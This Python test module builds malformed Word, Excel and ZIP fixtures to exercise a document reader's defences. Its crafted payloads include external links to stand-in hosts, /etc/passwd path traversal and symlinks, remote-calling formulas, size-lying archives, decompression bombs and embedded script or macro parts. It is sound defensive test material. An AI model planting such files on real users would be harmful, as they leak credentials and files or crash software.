"""Packages - Word files, workbooks, archives - whose parts, links or sizes are not what they say."""

import io
import struct
import zipfile
from collections.abc import Callable

from hostile.attack import AMOUNT, Attack
from hostile.office import SOUND_SHEET, SOUND_WORD, _after, _body, _cells, _with, packed
from reading.docx_files import p, tbl, tc, tr
from reading.workbooks import rewritten

RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _links(*targets: tuple[str, str, str]) -> bytes:
    rows = "".join(
        f'<Relationship Id="r{number}" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'
        for number, (kind, target, mode) in enumerate(targets, 1)
    )
    return f'<Relationships xmlns="{RELATIONS}">{rows}</Relationships>'.encode()


def _without(data: bytes, part: str) -> bytes:
    return rewritten(data, lambda name, content: None if name == part else content)


def _says(data: bytes, at: int, size: int) -> bytes:
    """An archive whose first member says another size, in its own head and in the directory."""
    made = bytearray(data)
    entry = made.index(b"PK\x01\x02")
    made[at + 4 : at + 8] = made[entry + at + 2 : entry + at + 6] = struct.pack("<I", size)
    return bytes(made)


def _twice(first: bytes, second: bytes, name: str) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr(name, first)
        archive.writestr("x" * len(name), second)
    return made.getvalue().replace(b"x" * len(name), name.encode())


def _symlink(data: bytes, name: str, target: str) -> bytes:
    made = io.BytesIO(data)
    with zipfile.ZipFile(made, "a") as archive:
        link = zipfile.ZipInfo(name)
        link.external_attr = 0o120777 << 16
        archive.writestr(link, target)
    return made.getvalue()


def _before(data: bytes) -> bytes:
    return b"MZ\x90\0" + b"\0" * 4096 + data


def _merged_down(rows: int) -> str:
    return tbl(tr(tc("项目"), tc("1.00", merge="restart")), *[tr(tc("甲"), tc("", merge="continue"))] * rows)


def _sheet_with(inner: bytes) -> bytes:
    return _with(SOUND_SHEET, "xl/worksheets/sheet1.xml", _after(b"</sheetData>", inner))


def _dimension(of: bytes) -> Callable[[bytes], bytes]:
    def change(part: bytes) -> bytes:
        start = part.index(b'<dimension ref="') + 16
        return part[:start] + of + part[part.index(b'"', start) :]

    return change


def _format(code: str, value: str = "1234.5") -> bytes:
    """A cell shown by a number format."""
    styles = f'<numFmts count="1"><numFmt numFmtId="200" formatCode="{code}"/></numFmts>'.encode()
    made = _with(SOUND_SHEET, "xl/styles.xml", lambda part: part.replace(b"<fonts", styles + b"<fonts", 1).replace(
        b'numFmtId="0"', b'numFmtId="200"'))  # fmt: skip
    return _with(made, "xl/worksheets/sheet1.xml", lambda part: part.replace(b"<v>60</v>", f"<v>{value}</v>".encode()))


WORD = [
    ("links to machines, shares and files", lambda: _with(SOUND_WORD, "word/_rels/document.xml.rels", _links(
        ("header", "\\\\192.0.2.1\\share\\h.xml", ' TargetMode="External"'), ("footnotes", "file:///etc/passwd", ""),
        ("attachedTemplate", "http://192.0.2.1/t.dotm", ' TargetMode="External"'), ("footer", "/../../etc/hosts", "")))),
    ("parts that name each other", lambda: _with(_with(_with(SOUND_WORD, "word/_rels/document.xml.rels", _links(
        ("header", "document.xml", ""), ("footnotes", "document.xml", ""), ("header", "document.xml", ""))),
        "word/_rels/header1.xml.rels", _links(("header", "header1.xml", ""))), "_rels/x.rels", _links(("x", "x", "")))),
    ("fifty thousand text boxes", lambda: _body((
        "<w:p><w:r><w:pict><w:txbxContent>" + p("1") + "</w:txbxContent></w:pict></w:r></w:p>") * 50_000)),
    ("sixty megabytes of empty elements", lambda: _body("<w:br/>" * 8_000_000)),
    ("a hundred thousand links", lambda: _with(SOUND_WORD, "word/_rels/document.xml.rels", _links(
        *[("header", "document.xml", "")] * 100_000))),
    ("no list of contents", lambda: _without(SOUND_WORD, "[Content_Types].xml")),
    ("no links at all", lambda: _without(_without(SOUND_WORD, "_rels/.rels"), "word/_rels/document.xml.rels")),
    ("a part of another format inside", lambda: _with(_body('<w:altChunk/>'), "word/afchunk.htm",
        b"<script>alert(1)</script><p>1</p>")),
    ("objects of other programs", lambda: _with(_body('<w:p><w:r><w:object><w:control w:name="Package"/></w:object></w:r></w:p>'),
        "word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 5000)),
    ("tables in tables, a thousand deep", lambda: _body("<w:tbl><w:tr><w:tc>" * 1000 + p("1.00")
        + "</w:tc></w:tr></w:tbl>" * 1000)),
    ("a cell merged down ten thousand rows", lambda: _body(_merged_down(10_000))),
    ("cells merged down from nothing", lambda: _body(tbl(*[tr(tc("", merge="continue"), tc("1.00", merge="continue"))] * 50))),
    ("rows that begin behind a million columns", lambda: _body(tbl(tr(
        "支出", "1.00", properties='<w:trPr><w:gridBefore w:val="1000000"/><w:gridAfter w:val="-5"/></w:trPr>')))),
    ("a table without rows and rows without cells", lambda: _body("<w:tbl/><w:tbl><w:tr/><w:tr/></w:tbl>")),
    ("the main part twice", lambda: _twice(zipfile.ZipFile(io.BytesIO(SOUND_WORD)).read("word/document.xml"),
        b"<x/>", "word/document.xml")),
    ("a program before the package", lambda: _before(SOUND_WORD)),
    ("a link for a part", lambda: _symlink(_without(SOUND_WORD, "word/document.xml"), "word/document.xml", "/etc/passwd")),
    ("a part that says to be small", lambda: _says(packed({"word/document.xml": b"<a>" * 100_000}), 22, 5)),
    ("a part that says to be of 4 GB", lambda: _says(packed({"word/document.xml": b"<a/>"}), 22, 0xFFFFFFFE)),
    ("an encoding that the XML does not have", lambda: _with(SOUND_WORD, "word/document.xml",
        b'<?xml version="1.0" encoding="utf-7"?><a>+ADw-b+AD4-</a>')),
    ("XML in UTF-16", lambda: _with(SOUND_WORD, "word/document.xml", lambda part: part.decode().partition("?>")[2].encode("utf-16"))),
    ("a hundred thousand runs in one paragraph", lambda: _body("<w:p>" + "<w:r><w:t>1</w:t></w:r>" * 100_000 + "</w:p>")),
]  # fmt: skip

SHEETS = [
    ("a million shared texts", lambda: _with(SOUND_SHEET, "xl/sharedStrings.xml",
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' + b"<si><t>a</t></si>" * 10**6 + b"</sst>")),
    ("a size that lies", lambda: _with(SOUND_SHEET, "xl/worksheets/sheet1.xml", _dimension(b"A1:XFD1048576"))),
    ("a hundred thousand styles", lambda: _with(SOUND_SHEET, "xl/styles.xml", lambda part: part.replace(
        b"</cellXfs>", b'<xf numFmtId="4"/>' * 100_000 + b"</cellXfs>"))),
    ("a number format of brackets", lambda: _format("[" * 50_000)),
    ("a number format of quotes and stars", lambda: _format(("&quot;*_\\" * 20_000) + "0")),
    ("a number format of conditions", lambda: _format("[&gt;=1]0;" * 10_000)),
    ("a number format of ten thousand decimals", lambda: _format("0." + "0" * 10_000)),
    ("a number format of dates without end", lambda: _format("yyyy" * 10_000, "45000")),
    ("a number format of fractions", lambda: _format("# " + "?" * 10_000 + "/" + "?" * 10_000)),
    ("a number of exponents in a format of decimals", lambda: _format("0.00", "1E300")),
    ("formulas that ask other machines", lambda: _cells(
        b'<row r="1"><c r="A1"><f>WEBSERVICE("http://192.0.2.1/")</f><v>1</v></c><c r="B1"><f>HYPERLINK("file:///etc/passwd")</f></c></row>')),
    ("links to other workbooks and machines", lambda: _with(_with(SOUND_SHEET, "xl/externalLinks/externalLink1.xml",
        b"<externalLink/>"), "xl/_rels/workbook.xml.rels", lambda part: part.replace(b"</Relationships>",
        b'<Relationship Id="r99" Type="x/externalLink" Target="\\\\192.0.2.1\\a.xlsx" TargetMode="External"/></Relationships>'))),
    ("two hundred thousand merged areas of one cell", lambda: _sheet_with(
        b"<mergeCells>" + b'<mergeCell ref="A1:A1"/>' * 200_000 + b"</mergeCells>")),
    ("merged areas that are none", lambda: _sheet_with(
        b'<mergeCells><mergeCell ref="XFD9:A1"/><mergeCell ref="A0:B-1"/><mergeCell/><mergeCell ref="' + b"A" * 99_999 + b'"/></mergeCells>')),
    ("no list of contents", lambda: _without(SOUND_SHEET, "[Content_Types].xml")),
    ("no styles", lambda: _without(SOUND_SHEET, "xl/styles.xml")),
    ("sheets that are other parts", lambda: _with(SOUND_SHEET, "xl/_rels/workbook.xml.rels", lambda part: part.replace(
        b"worksheets/sheet1.xml", b"styles.xml"))),
    ("a thousand sheets that are one", lambda: _with(SOUND_SHEET, "xl/workbook.xml", lambda part: part.replace(
        b"</sheets>", b"".join(b'<sheet name="s%d" sheetId="%d" state="visible" r:id="rId1"/>' % (n, n + 2)
        for n in range(1000)).replace(b"r:id", b'xmlns:r="%s" r:id' % OFFICE.encode()) + b"</sheets>"))),
    ("sixty megabytes of empty rows", lambda: _cells(b"<row/>" * 9_000_000)),
    ("sixty megabytes of empty cells", lambda: _cells(b"<row>" + b"<c/>" * 9_000_000 + b"</row>")),
    ("a row and a style of ten thousand digits", lambda: _cells(b'<row r="%s"><c r="A%s" s="%s" t="s"><v>%s</v></c></row>' % ((b"9" * 10_000,) * 4))),
    ("cells in no order", lambda: _cells(b"".join(
        b'<row r="%d"><c r="B%d"><v>1</v></c><c r="A%d"><v>2</v></c></row>' % (n, n, n) for n in range(900, 0, -1)))),
    ("fifty thousand cells in one place", lambda: _cells(b'<row r="1">' + b'<c r="A1"><v>1</v></c>' * 50_000 + b"</row>")),
]  # fmt: skip

ARCHIVES = [
    ("sixty-five thousand members", lambda: packed({f"{n}.txt": b"" for n in range(65_000)}, zipfile.ZIP_STORED)),
    ("a size that lies", lambda: _says(packed({"a.txt": AMOUNT.encode() * 999}), 22, 5)),
    ("a member that says to be of 4 GB", lambda: _says(packed({"a.txt": AMOUNT.encode()}), 22, 0xFFFFFFFE)),
    ("names in GBK that are not", lambda: packed({"甲甲.txt": AMOUNT.encode()}).replace("甲甲".encode(), b"\xff\xfe\x80\x81\xf8\xff")),
    ("a name of sixty thousand characters", lambda: packed({"a" * 60_000 + ".txt": AMOUNT.encode()})),
    ("names of devices, of options and of nothing", lambda: packed(
        dict.fromkeys(("CON.txt", "nul.yaml", "-rf.txt", " .txt", "a.txt.", "a.txt ", "./b.txt", "C:/x.txt", "\\\\h\\s\\x.txt"), AMOUNT.encode()))),
    ("folders a thousand deep", lambda: packed({"a/" * 1000 + "a.txt": AMOUNT.encode()})),
    ("a folder and a file of one name", lambda: packed({"a.txt/": b"", "a.txt": AMOUNT.encode(), "a.txt/b.txt": AMOUNT.encode()})),
    ("a program before the archive", lambda: _before(packed({"a.txt": AMOUNT.encode()}))),
    ("two archives one after the other", lambda: packed({"a.txt": AMOUNT.encode()}) + packed({"b.txt": AMOUNT.encode()})),
    ("an archive in a comment", lambda: packed({"a.txt": AMOUNT.encode()})[:-2] + b"\xff\xff" + b"PK\x05\x06" * 16_383),
    ("reports that name what lies outside", lambda: packed({"a.yaml": "报告格式: 1\n附件: [../../etc/passwd, /etc/passwd, b.txt]\n".encode()})),
]  # fmt: skip

ATTACKS = [Attack("Word", what, "a.docx", make) for what, make in WORD]
ATTACKS += [
    Attack(
        "Word",
        "macros in a file that says so",
        "a.docm",
        lambda: _with(SOUND_WORD, "word/vbaProject.bin", b"\xd0\xcf\x11\xe0"),
    )
]
ATTACKS += [Attack("Excel", what, "a.xlsx", make) for what, make in SHEETS]
ATTACKS += [Attack("ZIP", what, "a.zip", make) for what, make in ARCHIVES]
